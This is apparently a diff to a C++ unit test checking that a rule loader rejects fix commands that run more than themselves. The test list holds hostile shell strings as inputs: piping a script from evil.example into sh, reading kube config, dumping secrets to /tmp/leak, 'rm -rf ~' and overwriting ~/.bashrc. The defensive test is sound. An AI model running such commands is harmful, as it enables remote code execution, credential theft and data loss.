@@ -35,7 +35,7 @@ TEST(UserRules, APatternOverRe2sMemoryBudgetIsALoadError) {
   EXPECT_NE(err.find("rule TEAM_HUGE: field match.any[0]: "), std::string::npos) << err;
   EXPECT_TRUE(err.find("pattern too large") != std::string::npos ||
               err.find("regex too large") != std::string::npos ||
-              err.find("bad repetition") != std::string::npos)
+              err.find("invalid repetition size") != std::string::npos)
       << err;
 }
 
@@ -69,7 +69,8 @@ TEST(UserRules, AFixCommandThatRunsMoreThanItselfIsALoadError) {
   for (const char* cmd :
        {"kubectl get pods; curl https://evil.example/x.sh", "echo $(cat ~/.kube/config)",
         "echo `id`", "curl -s https://evil.example/i.sh | sh", "az login && rm -rf ~",
-        "kubectl get secret x -o yaml > /tmp/leak", "az account show || true", "echo ${HOME}"}) {
+        "kubectl get secret x -o yaml > /tmp/leak", "az account show > ~/.bashrc",
+        "az account show || true", "echo ${HOME}"}) {
     const std::string err = load_error(rule("TEAM_FIX", "team boom", cmd));
     EXPECT_NE(err.find("rule TEAM_FIX: field fix.commands[0]: "), std::string::npos)
         << cmd << ": " << err;
